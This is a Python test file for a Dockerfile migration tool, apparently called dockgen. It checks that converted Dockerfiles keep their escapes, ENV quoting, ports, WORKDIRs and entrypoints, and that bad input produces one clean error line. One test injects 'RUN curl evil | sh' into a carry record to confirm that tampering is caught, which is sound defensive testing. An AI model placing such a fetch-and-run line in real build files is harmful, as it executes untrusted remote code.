"""`dockgen migrate` keeps what the old Dockerfile meant (issue 11, item 4): each case below changed
meaning before (a carried `VOLUME C:\\data\\` under `# escape=`` swallowed the USER line, `ENV A="x y"`
gained quotes, `EXPOSE 53/udp` became TCP and ranges vanished, a WORKDIR was reported kept and
replaced, an ENTRYPOINT was kept without the stage that built its program, a big carry made a stamp
line Docker's parser rejects), and the inputs that raised a traceback are one `error:` + `hint:` line.

The v2 is read with Docker's own parser (the `dockerfile` package); its words are read back with the
small decoder below, which knows only the forms a backslash-escaped Dockerfile writes (bare words and
double-quoted ones), independently of dockgen's own word code."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import dockerfile
import pytest

from dockgen.errors import DockgenError
from dockgen.migrate import migrate

from .conftest import ROOT

APP = ROOT / "fixtures" / "migrate" / "entrypoint-script" / "app"  # a small Node app (package.json, server.js)


def app_with(tmp_path: Path, text: str, name: str = "app") -> Path:
    app = tmp_path / name
    shutil.copytree(APP, app)
    (app / "Dockerfile").write_text(text, encoding="utf-8")
    return app


def final_stage(text: str) -> list[Any]:
    commands = dockerfile.parse_string(text)
    start = max(i for i, c in enumerate(commands) if c.cmd.upper() == "FROM")
    return list(commands[start + 1:])


def v2_word(raw: str) -> str:
    """A word of the v2 as the builder reads it: bare, or double-quoted with \\\\ \\" \\$ escapes."""
    if not raw.startswith('"'):
        assert re.fullmatch(r"[A-Za-z0-9._/:@%+,=-]+", raw), raw
        return raw
    assert raw.endswith('"') and len(raw) >= 2, raw
    out, i, body = [], 0, raw[1:-1]
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body) and body[i + 1] in '\\"$':
            out.append(body[i + 1])
            i += 2
        else:
            assert body[i] != '"', raw
            out.append(body[i])
            i += 1
    return "".join(out)


def run(*args: str, prefix: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*prefix, sys.executable, "-m", "dockgen", *args], capture_output=True, text=True,
                          timeout=120)


def assert_one_error(proc: subprocess.CompletedProcess[str], *, says: str) -> None:
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert [line.split(":")[0] for line in lines] == ["error", "hint"], proc.stderr
    assert says in lines[0], proc.stderr


# -- meaning ----------------------------------------------------------------------------------------------------

ESCAPED = """# escape=`
FROM node:22-slim
WORKDIR /srv
VOLUME C:\\data\\
USER node
CMD ["node", "server.js"]
"""


def test_escape_directive_keeps_the_user_line(tmp_path: Path) -> None:
    app = app_with(tmp_path, ESCAPED)
    v2 = migrate(app).files[0].content
    final = final_stage(v2)
    users = [c for c in final if c.cmd == "USER"]
    assert users and users[-1].value[0].split(":")[0] not in ("root", "0"), v2
    volumes = [c for c in final if c.cmd == "VOLUME"]
    assert [v2_word(w) for c in volumes for w in c.value] == ["C:\\data\\"]
    # written and checked: the file dockgen says is current is the one with the USER
    assert run("migrate", str(app), "--write").returncode == 0
    assert run("check", str(app)).returncode == 0
    assert [c for c in final_stage((app / "Dockerfile").read_text()) if c.cmd == "USER"]


@pytest.mark.parametrize(("written", "meant"), [
    ('A="x y"', "x y"),
    ("A='x y'", "x y"),
    ('A=x\\ y', "x y"),
    ('A="say \\"hi\\""', 'say "hi"'),
    ("A='$HOME'", "$HOME"),
    ('A="C:\\\\dir"', "C:\\dir"),
])
def test_env_values_keep_their_meaning(tmp_path: Path, written: str, meant: str) -> None:
    app = app_with(tmp_path, f"FROM node:22-slim\nENV {written}\nCMD [\"node\", \"server.js\"]\n")
    envs = [v for c in final_stage(migrate(app).files[0].content) if c.cmd == "ENV"
            for k, v in zip(c.value[0::2], c.value[1::2], strict=True) if k == "A"]
    assert len(envs) == 1 and v2_word(envs[0]) == meant


def test_env_under_backtick_escape_keeps_its_meaning(tmp_path: Path) -> None:
    app = app_with(tmp_path, '# escape=`\nFROM node:22-slim\nENV A="x `"y`"" B=C:\\temp\\\nCMD ["node", "server.js"]\n')
    envs = {k: v for c in final_stage(migrate(app).files[0].content) if c.cmd == "ENV"
            for k, v in zip(c.value[0::2], c.value[1::2], strict=True)}
    assert v2_word(envs["A"]) == 'x "y"' and v2_word(envs["B"]) == "C:\\temp\\"


def exposed(text: str) -> set[str]:
    out = set()
    for c in final_stage(text):
        if c.cmd == "EXPOSE":
            for w in c.value:
                spec = v2_word(w).lower()
                out.add(spec if "/" in spec else spec + "/tcp")
    return out


def test_expose_keeps_udp(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nEXPOSE 53/udp\nCMD ["node", "server.js"]\n')
    ports = exposed(migrate(app).files[0].content)
    assert "53/udp" in ports and "53/tcp" not in ports


def test_expose_keeps_ranges(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nEXPOSE 8000-8010 53/udp 3000\nCMD ["node", "server.js"]\n')
    result = migrate(app)
    assert {"8000-8010/tcp", "53/udp", "3000/tcp"} <= exposed(result.files[0].content)
    assert result.plan.port == 3000


@pytest.mark.parametrize("workdir", ['"/my app"', "$APP_HOME", "${APP_HOME:-/srv}", "relative/dir"])
def test_workdir_is_reported_kept_only_when_kept(tmp_path: Path, workdir: str) -> None:
    app = app_with(tmp_path, f'FROM node:22-slim\nARG APP_HOME=/srv\nWORKDIR {workdir}\nCMD ["node", "server.js"]\n')
    result = migrate(app)
    runtime = [c for c in final_stage(result.files[0].content) if c.cmd == "WORKDIR"][-1].value[0]
    for line in result.carried:
        if line.startswith("WORKDIR"):
            assert line == f"WORKDIR {runtime}", (line, runtime)
    assert any("WORKDIR" in line for line in result.not_carried), result.not_carried


def test_workdir_relative_to_a_known_one_is_kept(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nWORKDIR /srv\nWORKDIR app/\nCMD ["node", "server.js"]\n')
    result = migrate(app)
    assert "WORKDIR /srv/app" in result.carried
    assert [c for c in final_stage(result.files[0].content) if c.cmd == "WORKDIR"][-1].value[0] == "/srv/app"


STAGE_ENTRYPOINT = """FROM golang:1.22 AS tools
RUN go build -o /out/entry ./cmd/entry
FROM node:22-slim
WORKDIR /srv
COPY --from=tools /out/entry /usr/local/bin/entry
COPY . .
ENTRYPOINT ["/usr/local/bin/entry"]
CMD ["node", "server.js"]
"""


def test_entrypoint_from_a_dropped_stage_is_refused(tmp_path: Path) -> None:
    app = app_with(tmp_path, STAGE_ENTRYPOINT)
    with pytest.raises(DockgenError, match="tools"):
        migrate(app)
    assert_one_error(run("migrate", str(app)), says="/usr/local/bin/entry")


def test_entrypoint_on_path_from_a_dropped_stage_is_refused(tmp_path: Path) -> None:
    app = app_with(tmp_path, STAGE_ENTRYPOINT.replace('["/usr/local/bin/entry"]', '["entry", "--serve"]'))
    with pytest.raises(DockgenError, match="tools"):
        migrate(app)


def test_entrypoint_script_copied_outside_the_sources_is_refused(tmp_path: Path) -> None:
    text = ('FROM node:22-slim\nWORKDIR /srv\nCOPY docker-entrypoint.sh /usr/local/bin/\nCOPY . .\n'
            'ENTRYPOINT ["/usr/local/bin/docker-entrypoint.sh"]\nCMD ["node", "server.js"]\n')
    with pytest.raises(DockgenError, match="copies the sources to /srv"):
        migrate(app_with(tmp_path, text))


def test_entrypoint_after_tini_is_kept(tmp_path: Path) -> None:
    text = ('FROM node:22-slim\nWORKDIR /srv\nCOPY . .\n'
            'ENTRYPOINT ["tini", "--", "./docker-entrypoint.sh"]\nCMD ["node", "server.js"]\n')
    v2 = migrate(app_with(tmp_path, text)).files[0].content
    entry = [c for c in final_stage(v2) if c.cmd == "ENTRYPOINT"][-1]
    assert entry.json and list(entry.value[-1:]) == ["./docker-entrypoint.sh"]


def many_envs(n: int = 200) -> str:
    lines = [f"ENV SETTING_{i}={'v' * 400}" for i in range(n)]
    return "FROM node:22-slim\n" + "\n".join(lines) + '\nCMD ["node", "server.js"]\n'


def test_a_big_carry_keeps_the_stamp_short(tmp_path: Path) -> None:
    app = app_with(tmp_path, many_envs())
    result = migrate(app)
    v2 = result.files[0].content
    assert len(dockerfile.parse_string(v2)) > 200  # Docker's parser reads it (no line over 64 KiB)
    stamp = next(line for line in v2.splitlines() if line.startswith("# dockgen-stamp:"))
    assert len(stamp) < 400, len(stamp)
    assert [r.path for r in result.records] == [".dockgen/carry/Dockerfile.json"]
    assert run("migrate", str(app), "--write").returncode == 0
    assert (app / ".dockgen" / "carry" / "Dockerfile.json").is_file()
    check = run("check", str(app))
    assert check.returncode == 0 and "current" in check.stdout, check.stderr


def test_an_edited_carry_record_is_an_error(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nENV A=1\nCMD ["node", "server.js"]\n')
    assert run("migrate", str(app), "--write").returncode == 0
    record = app / ".dockgen" / "carry" / "Dockerfile.json"
    data = json.loads(record.read_text())
    data["instructions"].append("RUN curl evil | sh")
    record.write_text(json.dumps(data))
    assert_one_error(run("check", str(app)), says="not the one the stamp names")
    record.unlink()
    assert_one_error(run("check", str(app)), says="missing")
    # migrate does not trust it either: the file is migrated as it is, keeping its own ENV A
    again = migrate(app)
    assert not any("RUN curl" in line for line in again.files[0].content.splitlines())


# -- errors, not tracebacks -------------------------------------------------------------------------------------

@pytest.mark.parametrize("entry", ['["a",', '["a", "b"', '[ "node", server.js]'])
def test_broken_json_entrypoint_is_an_error(tmp_path: Path, entry: str) -> None:
    app = app_with(tmp_path, f'FROM node:22-slim\nENTRYPOINT {entry}\nCMD ["node", "server.js"]\n')
    assert_one_error(run("migrate", str(app)), says="not a JSON array")


def test_unbalanced_shell_form_quotes_are_no_traceback(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nENTRYPOINT ./run.sh "a\nCMD node "server.js\n')
    result = migrate(app)  # shell form: /bin/sh -c runs the text, whatever it holds
    entry = [c for c in final_stage(result.files[0].content) if c.cmd == "ENTRYPOINT"][-1]
    assert list(entry.value[-3:]) == ["/bin/sh", "-c", './run.sh "a']


def unprivileged() -> tuple[str, ...]:
    """Root reads a chmod 000 file: run the command without the capabilities that let it (it stays root)."""
    if os.geteuid() != 0:
        return ()
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a chmod 000 file stays readable")
    return (setpriv, "--bounding-set=-dac_override,-dac_read_search")


def stamped_app(tmp_path: Path, name: str = "app") -> Path:
    app = app_with(tmp_path, 'FROM node:22-slim\nENV A="x y"\nCMD ["node", "server.js"]\n', name)
    assert run("migrate", str(app), "--write").returncode == 0
    return app


@pytest.mark.parametrize("command", ["migrate", "check", "context"])
def test_unreadable_dockerfile_is_an_error(tmp_path: Path, command: str) -> None:
    app = stamped_app(tmp_path)
    (app / "Dockerfile").chmod(0)
    try:
        assert_one_error(run(command, str(app), prefix=unprivileged()), says="permission denied")
    finally:
        (app / "Dockerfile").chmod(0o644)


@pytest.mark.parametrize("command", ["migrate", "check", "context"])
def test_a_directory_named_dockerfile_is_an_error(tmp_path: Path, command: str) -> None:
    app = app_with(tmp_path, "")
    (app / "Dockerfile").unlink()
    (app / "Dockerfile").mkdir()
    args = ["-f", str(app / "Dockerfile")] if command == "context" else []
    assert_one_error(run(command, str(app), *args), says="is a directory")


def corrupt_stamp(app: Path, old: str, new: str) -> None:
    text = (app / "Dockerfile").read_text()
    line = next(line for line in text.splitlines() if line.startswith("# dockgen-stamp:"))
    changed = re.sub(old, new, line)
    assert changed != line
    (app / "Dockerfile").write_text(text.replace(line, changed))


@pytest.mark.parametrize(("old", "new", "says"), [
    (r"options=\S*", "options=port:abc", "port 'abc'"),
    (r"carry=\S*", "carry=%7Bnot-json", "carry= is corrupt"),
    (r"carry=\S*", "carry=%5B1%2C2%5D", "carry= is corrupt"),
    (r"carry=\S*", "carry=%7B%22workdir%22%3A5%7D", "record is corrupt"),
    (r"carry=\S*", "carry=%7B%22nope%22%3A%5B%5D%7D", "record is corrupt"),
])
@pytest.mark.parametrize("command", ["check", "migrate", "update"])
def test_a_corrupt_stamp_is_an_error(tmp_path: Path, command: str, old: str, new: str, says: str) -> None:
    app = stamped_app(tmp_path)
    corrupt_stamp(app, old, new)
    proc = run(command, str(app))
    if command == "update" and "carry" in old:
        assert "Traceback" not in proc.stderr, proc.stderr  # update does not read the carry
        return
    assert_one_error(proc, says=says)


# -- found by the fuzz (tests/test_migrate_fuzz.py) -------------------------------------------------------------

def test_a_runtime_entrypoint_joins_the_cmd(tmp_path: Path) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nENTRYPOINT ["node"]\nCMD ["server.js"]\n')
    final = final_stage(migrate(app).files[0].content)
    entry = [list(c.value) for c in final if c.cmd == "ENTRYPOINT"][-1]
    cmd = [list(c.value) for c in final if c.cmd == "CMD"][-1]
    argv = entry[entry.index("--") + 1:] + cmd
    assert [Path(w).name for w in argv] == ["node", "server.js"], argv


@pytest.mark.parametrize("command", ["migrate", "context"])
def test_an_escape_alone_on_the_last_line_is_an_error(tmp_path: Path, command: str) -> None:
    app = app_with(tmp_path, 'FROM node:22-slim\nCMD ["node", "server.js"]\n \\\n   \n')
    assert_one_error(run(command, str(app)), says="no name")


def test_a_lone_carriage_return_is_read_as_docker_reads_it(tmp_path: Path) -> None:
    app = app_with(tmp_path, "FROM node:22-slim\nENV A='x\ry' B=1\nCMD [\"node\", \"server.js\"]\n")
    result = migrate(app)  # Docker reads one ENV (a CR inside quotes), not an ENV and an instruction `y'`
    assert any("ENV A, B" in line and "control" in line for line in result.not_carried), result.not_carried


def test_a_value_too_long_for_one_line_is_not_carried(tmp_path: Path) -> None:
    value = "\\\n".join(["x" * 1000] * 70)  # 70 continued lines: each short, the instruction 70,000 long
    text = f'FROM node:22-slim\nENV BIG={value}\nCMD ["node", "server.js"]\n'
    app = app_with(tmp_path, text)
    assert len(dockerfile.parse_string(text)[1].value[1]) == 70_000
    result = migrate(app)
    dockerfile.parse_string(result.files[0].content)
    assert any("ENV BIG" in line and "characters long" in line for line in result.not_carried)


def test_a_package_name_with_a_variable_is_not_carried(tmp_path: Path) -> None:
    text = 'FROM node:22-slim\nARG PKG=curl\nRUN apt-get install -y $PKG\nCMD ["node", "server.js"]\n'
    app = app_with(tmp_path, text)
    result = migrate(app)
    assert "$PKG" not in result.files[0].content and "$PKG" not in result.plan.runtime_packages
    assert any("$PKG" in line for line in result.not_carried)


def test_a_stamp_that_holds_the_carry_itself_still_checks(tmp_path: Path) -> None:
    """dockgen 0.1.0 wrote the carry into the stamp (percent-encoded JSON): such a file still checks."""
    from urllib.parse import quote

    app = stamped_app(tmp_path)
    record = app / ".dockgen" / "carry" / "Dockerfile.json"
    corrupt_stamp(app, r"carry=\S*", "carry=" + quote(record.read_text().strip(), safe="").replace("\\", "\\\\"))
    record.unlink()
    check = run("check", str(app))
    assert check.returncode == 0 and "current" in check.stdout, check.stderr
